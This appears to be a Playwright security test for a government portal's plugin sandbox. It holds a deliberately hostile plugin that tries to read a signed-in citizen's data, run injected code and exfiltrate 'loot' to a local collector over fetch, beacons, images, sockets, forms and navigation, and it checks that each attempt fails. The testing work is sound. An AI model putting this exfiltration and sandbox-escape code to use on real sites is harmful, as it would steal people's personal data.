import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { workingRelease } from '@hukumat/contract/examples';
import { type KeyPair, sha384 } from '@hukumat/contract/release';
import { expect, type Page, test } from '@playwright/test';
import { Developer } from '../actors/developer.ts';
import { Person } from '../actors/person.ts';
import { CentralAgency } from '../actors/reviewer.ts';

// A plugin of a real body that was approved and means harm, in both tiers, in the browser of a citizen who is signed in.
// The gate refuses the plain forms of some of it; whoever means harm hides them, so the browser is asked here.
// What must fail fails; what still works in one realm is written down in docs/decisions/0009 and asserted here as well.

const origin = process.env.E2E_ORIGIN ?? '';
const AGENCY = 'customs';
let developer: Developer;
let central: CentralAgency;
let key: KeyPair;
let collector: Server;
let elsewhere = '';
const collected: string[] = [];

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  collector = createServer((request, response) => {
    collected.push(`${request.method} ${request.url}`);
    const head = { 'access-control-allow-origin': '*', 'content-type': 'text/javascript', 'cross-origin-resource-policy': 'cross-origin' };
    response.writeHead(200, head).end('globalThis.ranElsewhere = true;');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
  developer = await Developer.of(origin, AGENCY);
  central = await CentralAgency.at(origin);
  key = developer.newKey();
  await central.registersKey(AGENCY, key.publicKeyPem);
});
test.afterAll(async () => {
  // The section stands without a plugin again, as other journeys expect it.
  await central.kills(AGENCY);
  developer.cleanUp();
  collector.closeAllConnections();
  await new Promise((resolve) => collector.close(resolve));
});

/** Code as an attacker writes it. Each attack tells what it got; `undefined` and an error are nothing. */
const hostile = (to: string): string => `
const to = ${JSON.stringify(to)};
const json = { method: 'POST', headers: { 'content-type': 'application/json', 'idempotency-key': 'ridden-session' } };
const within = (work, ms = 2500) => Promise.race([work, new Promise((_, no) => setTimeout(no, ms, new Error('silence')))]);
const status = async (path, init) => (await fetch(path, init)).status;
const node = (tag, set) => Object.assign(document.createElement(tag), set);
const loads = (element) => within(new Promise((yes, no) => { element.onload = () => yes('loaded'); element.onerror = () => no(new Error('error')); document.body.append(element); }));
const attacks = {
  account: () => status('/tg/account/'),
  accountFragment: async () => (await (await fetch('/_fragment/tg/account/')).json()).page,
  inbox: () => status('/api/v1/inbox'),
  documents: () => status('/api/v1/documents'),
  applications: async () => (await (await fetch('/api/v1/applications')).json()).length || undefined,
  submits: () => status('/api/v1/applications', { ...json, body: JSON.stringify({ service: 'criminal-record-certificate', answers: {} }) }),
  begins: () => status('/tg/mia/criminal-record-certificate/apply', { method: 'POST', body: new URLSearchParams({ surname: 'x' }) }),
  fills: () => status('/tg/mia/criminal-record-certificate/apply/save', { method: 'POST', body: new URLSearchParams({ surname: 'x' }) }),
  token: () => status('/api/v1/tokens', { ...json, body: JSON.stringify({ agency: 'customs', name: 'x' }) }),
  desk: () => status('/api/v1/agencies/mia/applications'),
  deskCapability: async () => /"capability":"([^"]+)"/.exec(await (await fetch('/tg/mia/desk')).text())?.[1],
  ownCapabilityInDom: async () => document.documentElement.outerHTML.includes('capability"') || undefined,
  cookie: async () => document.cookie || undefined,
  remoteModule: () => import(to + '/evil.mjs'),
  dataModule: () => import(['data', 'text/javascript,export default 1'].join(':')),
  blobModule: () => import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))),
  unlistedModule: () => import(new URL('text/tg.json', import.meta.url).href),
  othersModule: async () => import((await (await fetch('/_fragment/tg/')).json()).route.cards[0].entry + '?'),
  eval: async () => globalThis['ev' + 'al']('1'),
  function: async () => (() => {})['const' + 'ructor']('return 1')(),
  timeout: () => within(new Promise((yes) => { globalThis.ranText = yes; globalThis['set' + 'Timeout']('ranText(1)', 0); }), 300),
  inlineScript: async () => { const s = document.createElement('script'); s.text = 'globalThis.ranInline = 1'; document.body.append(s); return globalThis.ranInline; },
  sink: async () => { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.ranSink=1">'); return 'written'; },
  policy: async () => globalThis.trustedTypes.createPolicy('evil', { createHTML: (x) => x }).name,
  hukumatPolicy: async () => globalThis.trustedTypes.createPolicy('hukumat', { createHTML: (x) => x }).name,
  serviceWorker: async () => (await navigator.serviceWorker.register('/bundles/${AGENCY}/1.0.0/section.js')).scope,
  worker: () => within(new Promise((yes, no) => { const w = new Worker(new URL('section.js', import.meta.url)); w.onerror = no; w.onmessage = yes; }), 800),
  frame: async () => { const f = node('iframe', { src: '/tg/account/' }); document.body.append(f); await new Promise((r) => setTimeout(r, 1200)); return f.contentDocument?.body?.innerText.includes('Раҳимзода') || undefined; },
  base: async () => { document.head.append(node('base', { href: to })); const out = new URL(node('a', { href: 'x' }).href).origin; return out === to ? out : undefined; },
  fetchOut: () => status(to + '/fetch?loot', { mode: 'no-cors' }),
  beacon: async () => { navigator.sendBeacon(to + '/beacon?loot'); },
  image: () => loads(node('img', { src: to + '/image?loot' })),
  style: () => loads(node('link', { rel: 'stylesheet', href: to + '/style?loot' })),
  prefetch: async () => { document.head.append(node('link', { rel: 'prefetch', href: to + '/prefetch?loot' }), node('link', { rel: 'preconnect', href: to })); },
  socket: () => within(new Promise((yes, no) => { const s = new WebSocket(to.replace('http', 'ws') + '/socket?loot'); s.onopen = yes; s.onerror = no; }), 800),
  events: () => within(new Promise((yes, no) => { const s = new EventSource(to + '/events?loot'); s.onopen = yes; s.onerror = () => { s.close(); no(new Error('no')); }; }), 800),
};
const rob = async () => {
  const loot = {};
  for (const [name, attack] of Object.entries(attacks)) {
    try { const got = await attack(); if (got !== undefined) loot[name] = typeof got === 'object' ? 'ran' : got; } catch { loot[name] ??= 'failed'; }
  }
  globalThis.loot = loot;
};
export default { start(host) { globalThis.stolenHost = host; return { mount(view) { view.root.append('works'); setTimeout(rob, 50); }, unmount() {} }; } };
`;

async function goesLive(version: string, tier: 'page' | 'document'): Promise<void> {
  await central.setsTier(AGENCY, tier);
  const release = workingRelease(AGENCY, version);
  const bytes = new TextEncoder().encode(hostile(elsewhere));
  release.files.set('section.js', bytes);
  release.manifest.files['section.js'] = { sha384: sha384(bytes), bytes: bytes.byteLength };
  const sent = await developer.sends(release, key);
  expect(sent.body, JSON.stringify(sent.body)).toMatchObject({ state: 'pending' });
  await central.approves(AGENCY, version);
}

/** What an attack may answer: that it failed, or the refusal of the server. */
const NOTHING = new Set<unknown>(['failed', 401, 403]);

async function robbed(page: Page): Promise<Record<string, unknown>> {
  await page.waitForFunction(() => 'loot' in globalThis, undefined, { timeout: 60_000 });
  const loot = await page.evaluate(() => (globalThis as unknown as { loot: Record<string, unknown> }).loot);
  return Object.fromEntries(Object.entries(loot).filter(([, got]) => !NOTHING.has(got)));
}

for (const [tier, version] of [
  ['page', '6.6.0'],
  ['document', '6.6.1'],
] as const) {
  test(`a hostile plugin of tier ${tier} gets nothing of the person's, runs no other code and sends nothing away`, async ({ browser }) => {
    await goesLive(version, tier);
    const context = await browser.newContext({ baseURL: origin, locale: 'tg' });
    const page = await context.newPage();
    const citizen = new Person(page);
    await citizen.signsIn('citizen-1');
    collected.length = 0;
    const route = workingRelease(AGENCY, version).manifest.routes[0]?.path ?? '';
    await page.goto(`/tg/${AGENCY}/${route}`);
    const loot = await robbed(page);
    // A beacon and a hint tell nobody whether they were sent: the collector below does.
    expect(loot).toEqual({});
    expect(await page.evaluate(() => ['ranElsewhere', 'ranInline', 'ranSink'].filter((name) => name in globalThis))).toEqual([]);

    // Another page of the person in a window of its own, after a real click: it is cut off from whoever opened it.
    const [popup] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate(() => void Object.assign(globalThis, { popup: open('/tg/account/') })),
    ]);
    await popup.waitForLoadState();
    expect(await popup.locator('h1').count()).toBeGreaterThan(0);
    const read = await page.evaluate(() => {
      try {
        return (globalThis as unknown as { popup: Window }).popup.document.body.textContent ?? '';
      } catch {
        return '';
      }
    });
    expect(read).not.toContain('Раҳимзода');
    expect(await popup.evaluate(() => opener)).toBeNull();
    await popup.close();

    // By a form and by going there itself, with what it knows in the address.
    const formRefused = await page.evaluate(
      (to) =>
        new Promise<string>((refused) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused(effectiveDirective), { once: true });
          const form = Object.assign(document.createElement('form'), { method: 'post', action: `${to}/form?loot`, target: '_blank' });
          document.body.append(form);
          form.submit();
        }),
      elsewhere,
    );
    expect(formRefused).toBe('form-action');
    await page.evaluate((to) => void location.assign(`${to}/gone?loot`), elsewhere);
    await expect.poll(() => page.url()).toMatch(/^chrome-error:/);
    expect(collected).toEqual([]);
    await context.close();
  });
}

test('what still works in one realm is what the decision says', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: origin, locale: 'tg' });
  const page = await context.newPage();
  await new Person(page).signsIn('citizen-1');
  const { routes } = workingRelease(AGENCY, '6.6.1').manifest;
  await page.goto(`/tg/${AGENCY}/${routes[0]?.path ?? ''}`);
  await page.waitForFunction(() => 'stolenHost' in globalThis);
  const known = await page.evaluate(async () => {
    const header = document.querySelector('header')?.textContent ?? '';
    const who = (await (await fetch('/api/v1/who')).json()) as { name?: string };
    const over = Object.assign(document.createElement('div'), { id: 'over' });
    document.body.append(over);
    over.attachShadow({ mode: 'open' });
    Object.defineProperty(window, 'fetch', { value: window.fetch });
    return { header: header.length > 0, name: who.name ?? '', drawsOver: document.getElementById('over') !== null };
  });
  // The frame of its own document, the name that `host.who` tells anyway, and drawing over its own page.
  expect(known).toMatchObject({ header: true, drawsOver: true });
  expect(known.name).toContain('Раҳимзода');
  await context.close();
});
